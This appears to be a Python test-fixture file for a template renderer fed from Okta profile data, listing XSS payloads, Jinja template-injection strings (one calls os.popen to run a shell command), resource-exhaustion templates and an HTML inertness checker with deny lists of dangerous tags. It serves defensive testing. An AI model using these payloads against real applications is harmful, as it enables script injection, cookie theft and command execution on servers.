"""The hostile corpus: values an Okta profile may hold, templates an admin (or an attacker with an
admin's session) may write, and the check that rendered HTML is inert."""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

# Values, each put into every smart field of VALUES_TEMPLATE (text, attributes, URLs, style).
HOSTILE_VALUES = [
    "<script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "'><img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.cookie)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript&colon;alert(1)",
    "\tjava\nscript:alert(1)",
    " javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "red; width: expression(alert(1))",
    "red; background: url(javascript:alert(1))",
    "red; behavior: url(x.htc); -moz-binding: url(x.xml#xss)",
    "e\\78 pression(alert(1))",
    "<iframe src=javascript:alert(1)></iframe>",
    '<form action="https://evil.example"><input name=p></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<a hx-get="/admin" hx-trigger="load" hx-on:click="alert(1)">x</a>',
    '" hx-get="/settings" hx-trigger="load',
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "{{ 7*7 }}",
    "{% for x in range(10) %}loop{% endfor %}",
    "{{ ''.__class__.__mro__ }}",
    "\u202eevil\u202c\x00nul\x1b[31m",
    "lone \ud800 surrogate \udfff",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "]]><script>alert(1)</script>",
]

VALUES_TEMPLATE = """<table role="presentation"><tr>
<td style="color: {{ color }}; font-family: {{ font }}">
<a href="{{ website }}" title="{{ name }}">{{ name }}</a>
<img src="{{ photo }}" alt="{{ name }}" width="40" height="40">
<a href="mailto:{{ email }}">{{ email|upper }}</a> <a href="tel:{{ phone }}">{{ phone }}</a>
<span title='{{ name }}'>{{ title|default("none") }}</span>
<a href=https://x.example/{{ name }}>unquoted</a>
</td></tr></table>"""
VALUE_FIELDS = ("color", "font", "website", "name", "photo", "email", "phone", "title")

# Templates that render but must come out inert.
INERT_TEMPLATES = [
    "<script>alert(1)</script>Hi",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a><a href="&#106;avascript:alert(1)">y</a>',
    "<img src=x onerror=alert(1)>",
    '<img src="data:image/png;base64,iVBORw0KGgo=" width="1" height="1">',
    "<svg onload=alert(1)><circle r=1></circle></svg>",
    '<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x">',
    '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<div hx-get="/admin/delete" hx-trigger="load" hx-on:click="alert(1)" data-hx-post="/x">x</div>',
    '<td style="width: expression(alert(1)); color: red">x</td>',
    "<style>td { background: url(javascript:alert(1)); behavior: url(x.htc) } a { color: red }</style>"
    "<table><tr><td><a href='https://x.example'>x</a></td></tr></table>",
    '<link rel="stylesheet" href="http://127.0.0.1:9/x.css"><p>linked</p>',
    "<style>@import url(http://127.0.0.1:9/x.css); p { color: red }</style><p>imported</p>",
    '<p style="position:fixed;top:0;left:0;width:100%;z-index:9999">overlay</p>',
    "<!--[if mso]><script>alert(1)</script><![endif]--><p>mso</p>",
    "<base href='https://evil.example/'><a href='x'>relative</a>",
    '<a href="ftp://files.example/x">ftp</a>',
    "{% raw %}{{ ''.__class__ }}<script>alert(1)</script>{% endraw %}",
]

# Templates that are refused, with a word the one-line message must contain.
REFUSED_TEMPLATES = [
    ("{{ ''.__class__.__mro__ }}", "attribute"),
    ("{{ ''['__class__'] }}", "item access"),
    ("{{ self }}", "self"),
    ("{{ self.__init__.__globals__ }}", "attribute"),
    ("{{ cycler.__init__.__globals__.os.popen('id').read() }}", "calling"),
    ("{{ lipsum }}", "lipsum"),
    ("{{ range(10) }}", "calling"),
    ("{{ 'A' * 10**9 }}", "arithmetic"),
    ("{{ 9 ** 9 ** 9 }}", "arithmetic"),
    ("{{ first_name + 'x' }}", "arithmetic"),
    ("{{ -1 }}", "arithmetic"),
    ("{% for i in range(10**9) %}x{% endfor %}", "loops"),
    ("{% set x = 1 %}{{ x }}", "set"),
    ("{% set x %}y{% endset %}", "set"),
    ("{% macro m() %}x{% endmacro %}{{ m() }}", "macro"),
    ("{% include 'base.html' %}", "include"),
    ("{% import 'macros.html' as m %}", "import"),
    ("{% from 'macros.html' import m %}", "import"),
    ("{% extends 'base.html' %}", "extends"),
    ("{% block body %}x{% endblock %}", "block"),
    ("{% filter upper %}x{% endfilter %}", "filter"),
    ("{% with a = 1 %}{{ a }}{% endwith %}", "with"),
    ("{% autoescape false %}{{ first_name }}{% endautoescape %}", "autoescape"),
    ("{% call x() %}y{% endcall %}", "call"),
    ("{% do x %}", "do"),
    ("{{ 'x'|attr('__class__') }}", "attr"),
    ("{{ first_name|safe }}", "safe"),
    ("{{ '{0.__class__}'.format(1) }}", "calling"),
    ("{{ '%s'|format(first_name) }}", "format"),
    ("{{ names|map(attribute='__class__') }}", "map"),
    ("{{ first_name|indent(10**6) }}", "indent"),
    ("{{ first_name|wordwrap(1) }}", "wordwrap"),
    ("{{ x is callable }}", "callable"),
    ("{{ {'a': 1} }}", "dictionaries"),
    ("{{ first_name[0:1] }}", "item access"),
    ("{{ 1" + "0" * 5000 + " }}", "digits"),
    ("{{ '" + "x" * 2000 + "' }}", "literal"),
    ("{% if a %}" * 500 + "x" + "{% endif %}" * 500, "nested"),
    ("{{ " + "(" * 100 + "a" + ")" * 100 + " }}", "nested"),
    ("{{ " + "not " * 1000 + "a }}", "longer"),
    ("{{ a ~ " + " ~ ".join(["a"] * 300) + " }}", "longer"),
    ("x" * 1_000_000, "limit"),
    ("{% if a %}unclosed", "endif"),
    ("<p>\ud800{{ a }}</p>", "surrogates"),
    ("{{ a", "end of"),
    ("{{ a|nosuchfilter }}", "nosuchfilter"),
]

DANGEROUS_TAGS = (
    "script",
    "iframe",
    "svg",
    "form",
    "input",
    "meta",
    "object",
    "embed",
    "style",
    "link",
    "base",
)
SAFE_ATTRIBUTES = frozenset(
    {"style", "title", "align", "dir", "href", "rel", "src", "alt", "width", "height", "border", "valign"}
    | {"colspan", "rowspan", "bgcolor", "cellpadding", "cellspacing", "role", "color", "face", "size"}
    | {"noshade"}
)
_CONTROL = re.compile(r"[\x00-\x20\x7f]+")


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes.extend((tag, name, value or "") for name, value in attrs)


def assert_inert(markup: str) -> None:
    """No executable tag, no event handler or htmx attribute, no script/data URL, no CSS payload."""
    lowered = markup.lower()
    for tag in DANGEROUS_TAGS:
        assert f"<{tag}" not in lowered, f"<{tag}> in {markup!r}"
    collector = _Collector()
    collector.feed(markup)
    collector.close()
    for tag, name, value in collector.attributes:
        assert not name.startswith("on"), (tag, name, value)
        assert not name.startswith(("hx-", "data-hx", "x-", "data-")), (tag, name, value)
        assert name in SAFE_ATTRIBUTES, (tag, name, value)
        text = _CONTROL.sub("", html.unescape(value)).lower()
        if name in ("href", "src"):  # the only URL attributes left: an allowed scheme, absolute
            assert text.startswith(("https://", "http://", "mailto:", "tel:")), (tag, name, value)
        if name == "style":
            declarations = html.unescape(value).lower()
            for word in ("expression", "url(", "behavior", "binding", "javascript", "\\"):
                assert word not in declarations, (tag, name, value)
